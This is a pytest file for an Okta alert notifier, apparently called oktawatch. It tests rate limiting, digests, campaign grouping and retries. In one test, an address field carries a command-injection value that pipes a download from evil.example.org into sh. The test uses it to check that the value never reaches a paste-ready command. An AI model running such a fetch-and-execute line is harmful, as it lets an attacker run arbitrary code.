"""A flood of alerts causes few messages."""

from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime, timedelta
from typing import Any

import pytest

from oktawatch.detection.registry import RuleSettings, build_rules
from oktawatch.engine.database import DatabaseExecutor
from oktawatch.engine.deliver import LEASE, Notifier, plan_messages
from oktawatch.model.event import Event
from oktawatch.model.notification import DueNotification
from oktawatch.notify.channel import DeliveryError
from oktawatch.notify.message import Message
from oktawatch.store.outbox import claim
from tests.support.databases import NOW, open_database, rows
from tests.support.outbox import COMPOSER, HIGH_RULES, Clock, Receiver, put, sign_in
from tests.support.places import Place
from tests.support.streams import event

LOW_RULES = build_rules(
    {"Okta.Anonymizing.VPN.Login": RuleSettings(options={"severity": "LOW"})}, read_file=lambda name: name
)
SOURCE = {"ipAddress": "203.0.113.7"}


def person(number: int) -> dict[str, str]:
    """Return the actor of an event."""
    return {"id": f"00u{number}", "alternateId": f"user{number}@example.com"}


@pytest.fixture
def database(place: Place) -> Iterator[DatabaseExecutor]:
    """Yield a database with its threads."""
    with open_database(place):
        made = DatabaseExecutor(place.url)
        yield made
        made.close()


@pytest.fixture
def clock() -> Clock:
    """Return a clock."""
    return Clock()


def notifier(receiver: Receiver, database: DatabaseExecutor, clock: Clock, per_minute: int = 10) -> Notifier:
    """Create a notifier with a limit of messages per minute."""
    return Notifier(
        "soc", receiver, COMPOSER, database,
        max_age=timedelta(days=1), per_minute=per_minute, now=clock, clock=clock.monotonic,
        jitter=lambda: 0.5,
    )  # fmt: skip


def digests(receiver: Receiver) -> list[dict[str, Any]]:
    """Return the content of the digests that arrived."""
    return [message.body["digest"] for message in receiver.taken if message.type == "digest"]


def states(database: DatabaseExecutor) -> dict[str, int]:
    """Count the notifications by their state."""
    counts: dict[str, int] = {}
    for row in rows(database.database, "notifications"):
        counts[row["state"]] = counts.get(row["state"], 0) + 1
    return counts


def apart(count: int, first: int = 0) -> list[Any]:
    """Return sign-ins of different people from different addresses and networks."""
    return [sign_in(first + n, ip=f"198.51.100.{n % 250}") for n in range(count)]


async def test_what_is_above_comes_together(database: DatabaseExecutor, clock: Clock) -> None:
    """The oldest alerts are sent one by one and the rest in one digest, within max_per_minute."""
    put(database.database, *apart(50))
    clock.advance(seconds=1)
    receiver = Receiver()

    assert await notifier(receiver, database, clock).round() == 10

    assert [message.type for message in receiver.taken] == ["alert.opened"] * 9 + ["digest"]
    (digest,) = digests(receiver)
    assert (digest["reason"], digest["alerts"], digest["people"]) == ("above", 41, 41)
    assert digest["severities"] == {"MEDIUM": 41}
    assert digest["rules"] == {"Okta.Anonymizing.VPN.Login": 41}
    assert len(digest["who"]) == len(digest["addresses"]) == 5
    assert states(database) == {"sent": 10, "digested": 41}
    assert receiver.taken[-1].heading == "[MEDIUM] 41 more alerts (acme)"
    assert "oktawatch alerts list --since 2026-11-02T12:00:00Z" in receiver.taken[-1].plain()


async def test_no_more_within_the_minute(database: DatabaseExecutor, clock: Clock) -> None:
    """Messages beyond the limit wait for the next minute, and are folded again if there are too many."""
    soc = notifier(receiver := Receiver(), database, clock)
    put(database.database, *apart(50))
    await soc.round()
    put(database.database, *apart(30, first=100), now=clock())
    clock.advance(seconds=30)
    assert await soc.round() == 0
    clock.advance(seconds=31)

    assert await soc.round() == 10

    assert [digest["alerts"] for digest in digests(receiver)] == [41, 21]
    assert states(database) == {"sent": 20, "digested": 62}


async def test_a_flood_hides_no_high_alert(database: DatabaseExecutor, clock: Clock) -> None:
    """A HIGH alert is sent in the next round by itself, even if a flood has used up the minute's limit."""
    soc = notifier(receiver := Receiver(), database, clock)
    put(database.database, *apart(100))
    await soc.round()
    clock.advance(seconds=5)
    put(database.database, *apart(60, first=100), now=clock())
    put(database.database, sign_in(500, at=clock(), ip="192.0.2.9"), now=clock(), rules=HIGH_RULES)
    put(database.database, *apart(60, first=200), now=clock())
    receiver.taken.clear()

    assert await soc.round() == 1

    (message,) = receiver.taken
    assert (message.type, message.body["alert"]["severity"]) == ("alert.opened", "HIGH")
    assert "user500@example.com" in message.plain()


async def test_high_alerts_come_first_and_worst_first(database: DatabaseExecutor, clock: Clock) -> None:
    """Urgent alerts beyond their limit leave one urgent digest, and the flood's digest holds the least severe."""
    put(database.database, *apart(40))
    put(database.database, *(sign_in(500 + n, ip=f"192.0.2.{n}") for n in range(30)), rules=HIGH_RULES)
    receiver = Receiver()

    assert await notifier(receiver, database, clock).round() == 20

    severities = [message.severity and message.severity.name for message in receiver.taken]
    assert severities == ["HIGH"] * 10 + ["MEDIUM"] * 10
    assert [(digest["alerts"], digest["severities"]) for digest in digests(receiver)] == [
        (21, {"HIGH": 21}),
        (31, {"MEDIUM": 31}),
    ]
    assert receiver.taken[9].heading == "[HIGH] 21 more alerts (acme)"


async def test_a_high_alert_overtakes_a_slow_receivers_queue(
    database: DatabaseExecutor, clock: Clock
) -> None:
    """An urgent alert that arrives during a long round is sent within seconds."""

    class Slow(Receiver):
        async def send(self, message: Message) -> None:
            clock.advance(seconds=4)
            await super().send(message)
            if len(self.taken) == 2:
                urgent = sign_in(500, at=clock(), ip="192.0.2.9")
                put(database.database, urgent, now=clock(), rules=HIGH_RULES)

    put(database.database, *apart(9))
    slow = Slow()
    await notifier(slow, database, clock).round()

    severities = [message.severity and message.severity.name for message in slow.taken]
    assert severities.index("HIGH") <= 4


async def test_as_many_as_it_takes_come_by_themselves(database: DatabaseExecutor, clock: Clock) -> None:
    """Alerts within the limit are not folded into a digest."""
    put(database.database, *apart(10))
    receiver = Receiver()

    assert await notifier(receiver, database, clock).round() == 10

    assert digests(receiver) == []


async def test_the_past_comes_together(database: DatabaseExecutor, clock: Clock) -> None:
    """A first run sends old alerts in one digest, and new alerts one by one."""
    past = [sign_in(n, at=NOW - timedelta(hours=2 + n)) for n in range(30)]
    put(database.database, *past, sign_in(50))
    receiver = Receiver()

    await notifier(receiver, database, clock).round()

    (digest,) = digests(receiver)
    assert (digest["reason"], digest["alerts"]) == ("late", 30)
    assert {message.type for message in receiver.taken} == {"alert.opened", "digest"}
    assert len(receiver.taken) == 2
    (heading,) = [message.heading for message in receiver.taken if message.type == "digest"]
    assert heading == "[MEDIUM] 30 alerts about old events (acme)"


async def test_a_single_one_of_the_past(database: DatabaseExecutor, clock: Clock) -> None:
    """A single old alert is sent by itself and not as a digest."""
    put(database.database, sign_in(1, at=NOW - timedelta(hours=5)))
    receiver = Receiver()

    await notifier(receiver, database, clock).round()

    assert [message.type for message in receiver.taken] == ["alert.opened"]


async def test_a_long_past_is_one_digest_a_minute(database: DatabaseExecutor, clock: Clock) -> None:
    """Alerts of a backlog are collected while its pages are read."""
    soc = notifier(receiver := Receiver(), database, clock)
    for page in range(12):
        past = [sign_in(10 * page + n, at=NOW - timedelta(hours=2)) for n in range(10)]
        put(database.database, *past, now=clock())
        await soc.round()
        clock.advance(seconds=5)
    clock.advance(seconds=60)
    await soc.round()

    assert [digest["alerts"] for digest in digests(receiver)] == [10, 110]


async def test_a_campaign(database: DatabaseExecutor, clock: Clock) -> None:
    """The alerts of one address about many people are one message; other alerts are sent separately."""
    put(database.database, *(sign_in(n) for n in range(8)), sign_in(20, ip="198.51.100.9"))
    receiver = Receiver()

    await notifier(receiver, database, clock, per_minute=30).round()

    (digest,) = digests(receiver)
    assert (digest["reason"], digest["source"], digest["alerts"], digest["people"]) == (
        "campaign", "203.0.113.7", 8, 8,
    )  # fmt: skip
    assert len(receiver.taken) == 2
    (message,) = [message for message in receiver.taken if message.type == "digest"]
    assert message.heading == "[MEDIUM] Campaign from 203.0.113.7: 8 tried (acme)"
    assert "Tried: user0@example.com, user1@example.com" in message.plain()
    assert "--ip 203.0.113.7" in message.plain()


async def test_a_low_alert_that_rose_replaces_no_level(database: DatabaseExecutor, clock: Clock) -> None:
    """Below MEDIUM, an alert rises without a change of its severity. The digest is still raised for the success."""
    put(
        database.database,
        event(1, actor=person(1), client=SOURCE, outcome={"result": "FAILURE"}),
        event(2, actor=person(1), client=SOURCE, outcome={"result": "SUCCESS"}, at=timedelta(seconds=1)),
        rules=LOW_RULES,
    )
    put(database.database, *(sign_in(n) for n in range(11, 18)))
    receiver = Receiver()

    await notifier(receiver, database, clock, per_minute=30).round()

    (digest,) = digests(receiver)
    assert digest["severities"] == {"MEDIUM": 7, "LOW": 1}
    assert (digest["got_in"], digest["risen"], digest["severity"]) == (1, False, "HIGH")


async def test_a_slow_campaign(database: DatabaseExecutor, clock: Clock) -> None:
    """A slow campaign counts people who were sent one by one before, and collects later alerts."""
    soc = notifier(receiver := Receiver(), database, clock, per_minute=30)
    for n in range(12):
        put(database.database, sign_in(n, at=clock()), now=clock())
        await soc.round()
        clock.advance(seconds=30)
    types = [message.type for message in receiver.taken]
    assert types == ["alert.opened"] * 4 + ["digest"]
    assert (digests(receiver)[0]["alerts"], digests(receiver)[0]["people"]) == (1, 5)
    clock.advance(minutes=8)

    await soc.round()

    (again,) = digests(receiver)[1:]
    assert (again["reason"], again["alerts"]) == ("campaign", 7)


def failed(number: int, at: datetime) -> Event:
    """Return a failed sign-in of another person from the campaign's address."""
    result = {"result": "FAILURE"}
    return event(number, at=at - NOW, actor=person(number), client=SOURCE, outcome=result)


def succeeded(number: int, at: datetime) -> Event:
    """Return a successful sign-in of another person from the campaign's address."""
    result = {"result": "SUCCESS"}
    return event(number, at=at - NOW, actor=person(number), client=SOURCE, outcome=result)


async def test_a_success_in_a_campaign_of_failures_is_sent_at_once(
    database: DatabaseExecutor, clock: Clock
) -> None:
    """After a campaign's digest, a person who gets in at the first attempt is sent at once, and failures are collected."""
    soc = notifier(receiver := Receiver(), database, clock)
    put(database.database, *(failed(n, clock()) for n in range(8)))
    await soc.round()
    clock.advance(minutes=2)
    put(database.database, failed(8, clock()), succeeded(9, clock()), failed(10, clock()), now=clock())

    await soc.round()

    assert [message.type for message in receiver.taken] == ["digest", "alert.opened"]
    assert "user9@example.com signed in" in receiver.taken[1].heading
    clock.advance(minutes=9)
    await soc.round()
    assert [digest["alerts"] for digest in digests(receiver)] == [8, 2]


async def test_a_campaign_of_successes_causes_no_flood(database: DatabaseExecutor, clock: Clock) -> None:
    """If many people get in from one address, all are sent in the campaign's digests after the first four."""
    soc = notifier(receiver := Receiver(), database, clock)
    for n in range(120):
        put(database.database, succeeded(n, clock()), now=clock())
        await soc.round()
        clock.advance(seconds=30)

    types = [message.type for message in receiver.taken]
    assert types == ["alert.opened"] * 4 + ["digest"] * 6


async def test_successes_right_after_a_campaign_s_digest_cause_no_flood(
    database: DatabaseExecutor, clock: Clock
) -> None:
    """Successes that wait from one digest of a campaign to the next are still counted, and sent in the next one."""
    soc = notifier(receiver := Receiver(), database, clock)
    put(database.database, *(failed(n, clock()) for n in range(8)))
    await soc.round()
    put(database.database, *(succeeded(n, clock()) for n in range(8, 48)), now=clock())
    await soc.round()
    clock.advance(minutes=10, seconds=1)
    await soc.round()

    assert [digest["alerts"] for digest in digests(receiver)] == [8, 40]
    assert len(receiver.taken) == 2


async def test_a_network(database: DatabaseExecutor, clock: Clock) -> None:
    """Many addresses of one network are a campaign, too."""
    events = [sign_in(n, ip=f"198.51.100.{n}", network=64500) for n in range(6)]
    put(database.database, *events)
    receiver = Receiver()

    await notifier(receiver, database, clock, per_minute=30).round()

    (digest,) = digests(receiver)
    assert (digest["reason"], digest["source"]) == ("campaign", "64500")
    assert receiver.taken[0].heading == "[MEDIUM] Campaign from AS64500: 6 tried (acme)"


async def test_one_person_is_no_campaign(database: DatabaseExecutor, clock: Clock) -> None:
    """Many alerts about one person are not a campaign."""
    events = [sign_in(n, who=1, at=NOW - timedelta(minutes=1), ip="203.0.113.7") for n in range(3)]
    put(database.database, *events)
    receiver = Receiver()

    await notifier(receiver, database, clock, per_minute=30).round()

    assert digests(receiver) == []


async def test_a_digest_is_retried_as_it_was(database: DatabaseExecutor, clock: Clock) -> None:
    """A digest that may have been received is not changed; later alerts go into another one."""
    receiver = Receiver(*[None] * 9, DeliveryError("status 500"))
    soc = notifier(receiver, database, clock)
    put(database.database, *apart(50))
    clock.advance(seconds=1)
    await soc.round()
    put(database.database, *apart(50, first=100), now=clock())
    clock.advance(minutes=2)

    await soc.round()

    digests_sent = [
        (message.id, message.body["digest"]["alerts"])
        for message in receiver.asked
        if message.type == "digest"
    ]
    assert digests_sent[0] == digests_sent[1]
    assert [alerts for _, alerts in digests_sent] == [41, 41, 42]


async def test_a_digest_whose_process_died_in_between(database: DatabaseExecutor, clock: Clock) -> None:
    """A digest that was sent but not marked is sent again unchanged."""
    put(database.database, *apart(50))
    assert len(plan_messages(database.database, "soc", now=clock(), per_minute=1).send) == 1
    assert claim(database.database, "soc", now=clock(), lease=LEASE) is not None
    clock.advance(seconds=LEASE.total_seconds())
    put(database.database, *apart(50, first=100), now=clock())
    receiver = Receiver()

    await notifier(receiver, database, clock).round()

    assert [digest["alerts"] for digest in digests(receiver)] == [50, 42]


async def test_an_alert_whose_process_died_in_between(database: DatabaseExecutor, clock: Clock) -> None:
    """An alert that was sent but not marked is sent again with its own key."""
    past = NOW - timedelta(hours=2)
    put(database.database, sign_in(0, at=past))
    first = claim(database.database, "soc", now=clock(), lease=LEASE)
    assert first is not None
    clock.advance(seconds=LEASE.total_seconds())
    put(database.database, *(sign_in(n, at=past) for n in range(1, 9)), now=clock())
    receiver = Receiver()

    await notifier(receiver, database, clock, per_minute=2).round()

    assert {message.id for message in receiver.taken if message.type == "alert.opened"} == {first.id}
    assert [digest["alerts"] for digest in digests(receiver)] == [8]


def test_processes_that_fold_at_once(database: DatabaseExecutor) -> None:
    """Each alert is sent or in one digest, no digest is empty, and a sent digest does not grow."""

    def work(replica: int) -> list[DueNotification]:
        claimed = []
        for turn in range(6):
            put(database.database, *apart(20, first=1_000 * replica + 20 * turn))
            plan_messages(database.database, "soc", now=NOW, per_minute=1)
            claimed.append(claim(database.database, "soc", now=NOW, lease=LEASE))
        return [due for due in claimed if due is not None]

    with ThreadPoolExecutor(4) as replicas:
        claimed = [due for share in replicas.map(work, range(4)) for due in share]
    plan_messages(database.database, "soc", now=NOW, per_minute=1)

    found = rows(database.database, "notifications")
    held = Counter(row["digest_id"] for row in found if row["digest_id"] is not None)
    alone = [due.id for due in claimed if due.digest is None]
    assert held.total() + len(alone) == 4 * 6 * 20
    assert set(held) == {row["id"] for row in found if row["kind"] == "digest"}
    for due in claimed:
        assert due.digest is None or due.digest.alerts == held[due.id]


async def test_a_receiver_that_is_down_for_long(database: DatabaseExecutor, clock: Clock) -> None:
    """Waiting alerts are folded once the receiver is back, not at each attempt."""
    receiver = Receiver(*[DeliveryError("status 503")] * 30)
    soc = notifier(receiver, database, clock)
    put(database.database, *apart(200))
    while receiver.script:
        await soc.round()
        clock.advance(minutes=1)
    before = len(rows(database.database, "notifications"))
    for _ in range(120):
        clock.advance(minutes=1)
        await soc.round()

    assert len(rows(database.database, "notifications")) - before <= 2
    assert set(states(database)) == {"sent", "digested"}


async def test_a_hostile_campaign(database: DatabaseExecutor, clock: Clock) -> None:
    """Text that poses as an address does not get into a command for people to paste."""
    hostile = "203.0.113.7; curl https://evil.example.org | sh"
    put(database.database, *(sign_in(n, ip=hostile) for n in range(6)))
    receiver = Receiver()

    await notifier(receiver, database, clock).round()

    (message,) = receiver.taken
    assert "Look: oktawatch alerts list --since 2026-11-02T12:00:00Z" in message.plain().splitlines()
    for form in (message.plain(), message.markdown(), message.html(), message.heading):
        assert "://" not in form


async def test_what_was_sent_by_a_clock_that_ran_ahead_uses_up_no_allowance(
    database: DatabaseExecutor, clock: Clock
) -> None:
    """Messages that were sent while the clock was ahead do not count against the limit."""
    receiver = Receiver()
    soc = notifier(receiver, database, clock, per_minute=2)
    clock.jump(days=1)
    put(database.database, sign_in(1, at=clock()), sign_in(2, at=clock()), now=clock())
    ahead = await soc.round()
    clock.jump(days=-1)
    put(database.database, sign_in(3, at=clock()), sign_in(4, at=clock()), now=clock())

    assert (ahead, await soc.round()) == (2, 2)
    assert digests(receiver) == []


async def test_a_clock_that_is_ahead_makes_no_alert_late(database: DatabaseExecutor, clock: Clock) -> None:
    """A clock that is ahead makes no alert late, because lateness is measured by Okta's clock."""
    clock.jump(days=1)
    put(database.database, sign_in(1, at=NOW), sign_in(2, at=NOW), now=clock(), date=NOW)
    receiver = Receiver()

    assert await notifier(receiver, database, clock).round() == 2
    assert digests(receiver) == []
